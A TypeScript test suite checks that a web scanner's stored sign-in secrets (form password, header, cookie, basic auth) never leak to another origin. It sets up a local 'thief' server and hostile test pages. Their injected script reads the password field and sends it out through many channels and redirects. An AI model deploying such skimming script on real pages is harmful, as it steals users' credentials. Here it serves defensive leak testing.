import type { SignInOrder } from '@manara/core/sign-in/sign-in';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { byTurns } from '../long-form.ts';
import { attempts, navigations } from './attempts.ts';
import { scan } from './scan.ts';
import { attemptSupport, serve, type Handler, type TestSite } from './test-site.ts';
import { untilQuiet } from './until-quiet.ts';

const secret = 'lantern-under-harbour';
const inBase64 = Buffer.from(`ann:${secret}`).toString('base64');
/** The secret, its parts, and the form in which a basic sign-in sends it: nothing that an address, a hash or a port has by chance. */
const given = new RegExp(`lantern|harbour|${inBase64}`);

/** Another origin, which scans may reach, and which writes down all that it is sent. */
interface Thief {
  origin: string;
  host: string;
  heard: string[];
  [Symbol.asyncDispose]: () => Promise<void>;
}

async function startThief(): Promise<Thief> {
  const heard: string[] = [];
  const read = async (request: IncomingMessage): Promise<string> => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    return `${request.method} ${request.url}\n${JSON.stringify(request.rawHeaders)}\n${body}`;
  };
  const server = createServer((request, response) => {
    read(request).then(
      (line) => {
        heard.push(line);
        response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' });
        response.end('<!doctype html><html lang="en"><title>Caught</title><main><h1>Caught</h1></main>');
      },
      () => response.destroy(),
    );
  });
  server.on('upgrade', (request, socket) => {
    heard.push(`${request.method} ${request.url}\n${JSON.stringify(request.rawHeaders)}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = (): Promise<void> =>
    new Promise((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
  return { origin: `http://${host}`, host, heard, [Symbol.asyncDispose]: close };
}

/** A script that takes every way out with `what`, an expression of the page, in the address. */
const takeAll = (thief: string, what: string): string =>
  `
  const stolen = () => encodeURIComponent(${what});
  const tryAll = () => { ${Object.entries(attempts)
    .map(
      ([name, body]) => `
    (async (to, ws, here, host, port) => { document.body.append(here); ${body} })(
      '${thief}/${name}?p=' + stolen(), '${thief.replace('http', 'ws')}/${name}?p=' + stolen(), document.createElement('div'),
      '127.0.0.1', '${new URL(thief).port}').catch(() => {});`,
    )
    .join('')} };
  addEventListener('unhandledrejection', (event) => event.preventDefault());`.replaceAll('</script>', '<\\/script>');

const html = (body: string): string =>
  `<!doctype html><html lang="en"><title>Page</title><body><main><h1>Page</h1>${body}</main></body></html>`;
const answer =
  (body: string, status = 200, headers: Record<string, string> = {}): Handler =>
  (_request, response) =>
    void response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body);

const order = (site: TestSite, change: Partial<SignInOrder>): SignInOrder => ({
  kind: 'form',
  username: 'ann',
  name: null,
  url: null,
  mark: null,
  secret,
  origin: site.origin,
  ...change,
});
const scanAs = (site: TestSite, thief: Thief, change: Partial<SignInOrder>) =>
  scan(
    { allow: [new URL(site.origin).host, thief.host] },
    {
      startUrl: `${site.origin}/`,
      limits: { maxPages: 20, maxDepth: 3, pagesPerMinute: 0, concurrency: 2 },
      signIn: order(site, change),
    },
  );
const fill = '<input name="user"><input name="password" type="password"><button>Enter</button>';

describe('a page that wants the password of a form', () => {
  it('gets it out by none of the ways that a page knows', async () => {
    await using thief = await startThief();
    const site = await serve({
      ...attemptSupport,
      '/': (request, response, url) =>
        request.headers.cookie?.includes('in=1')
          ? answer(html('<p>Hello ann</p>'))(request, response, url)
          : answer('', 302, { location: '/login' })(request, response, url),
      '/login': (request, response, url) =>
        request.method === 'POST'
          ? answer('', 303, { location: '/', 'set-cookie': 'in=1' })(request, response, url)
          : answer(
              html(`<form method="post">${fill}</form><script>
                ${takeAll(thief.origin, 'document.querySelector("[type=password]").value')}
                // Before, it has nothing to tell; that the ways work, this proves.
                new Image().src = '${thief.origin}/before';
                document.querySelector('[type=password]').addEventListener('input', tryAll);
                document.querySelector('form').addEventListener('submit', (event) => {
                  tryAll();
                  event.preventDefault();
                  setTimeout(() => event.target.submit(), 2500);
                });
              </script>`),
            )(request, response, url),
    });
    const { end, pages, leftOver } = await scanAs(site, thief, { url: `${site.origin}/login`, mark: { kind: 'text', value: 'Hello ann' } });
    await untilQuiet(() => thief.heard.length);
    await site.close();
    expect(end.status).toBe('completed');
    expect(thief.heard.some((line) => line.startsWith('GET /before'))).toBe(true);
    expect(thief.heard.filter((line) => given.test(line))).toEqual([]);
    expect(JSON.stringify([end, pages])).not.toMatch(given);
    expect(leftOver).toEqual([]);
  });

  it.each(byTurns(['meta-refresh', 'location-later', 'click', 'form', 'top-from-frame', 'window-open-self', 'document-open'], 7))(
    'does not carry it away with its own window: %s',
    async (name) => {
      await using thief = await startThief();
      const away = `${thief.origin}/${name}?p=${secret}`;
      const site = await serve({
        '/': answer(html('<p>Hello ann</p>')),
        '/away': answer(navigations[name]?.(away) ?? ''),
        '/login': (request, response, url) =>
          request.method === 'POST'
            ? answer('', 303, { location: '/away', 'set-cookie': 'in=1' })(request, response, url)
            : answer(html(`<form method="post">${fill}</form>`))(request, response, url),
      });
      const { end } = await scanAs(site, thief, { url: `${site.origin}/login`, mark: { kind: 'text', value: 'Nobody sees this' } });
      await site.close();
      expect(end.status).toBe('failed');
      expect(thief.heard.filter((line) => given.test(line))).toEqual([]);
      expect(JSON.stringify(end)).not.toMatch(given);
    },
  );
});

const ownSecrets: [string, Partial<SignInOrder>][] = [
  ['a header', { kind: 'header', name: 'X-Access' }],
  ['a cookie', { kind: 'cookie', name: 'pass' }],
  ['a basic sign-in', { kind: 'basic' }],
];

// Side by side: each waits for a page that never settles.
it.concurrent.each(byTurns(ownSecrets, 3))(
  '%s of a site goes to no other origin by any of the ways that a page knows, redirects of its own among them',
  async (_kind, change) => {
    await using thief = await startThief();
    const pages: Record<string, string | Handler> = {
      ...attemptSupport,
      '/': answer(
        html(
          `${Object.keys(navigations)
            .map((name) => `<a href="/go/${name}">${name}</a>`)
            .join(' ')} <a href="/all">all</a>`,
        ),
      ),
      '/all': answer(html(`<script>${takeAll(thief.origin, '"nothing"')} tryAll();</script>`)),
    };
    for (const [name, page] of Object.entries(navigations)) pages[`/go/${name}`] = answer(page(`${thief.origin}/${name}`));
    const site = await serve(pages);
    const { end, pages: results } = await scanAs(site, thief, change);
    await untilQuiet(() => thief.heard.length);
    await site.close();
    expect(end.status).toBe('completed');
    // It was reached in many ways, or the test would prove nothing.
    expect(new Set(thief.heard.map((line) => line.split('\n')[0])).size).toBeGreaterThan(30);
    expect(thief.heard.filter((line) => given.test(line))).toEqual([]);
    expect(JSON.stringify([end, results])).not.toMatch(given);
  },
);
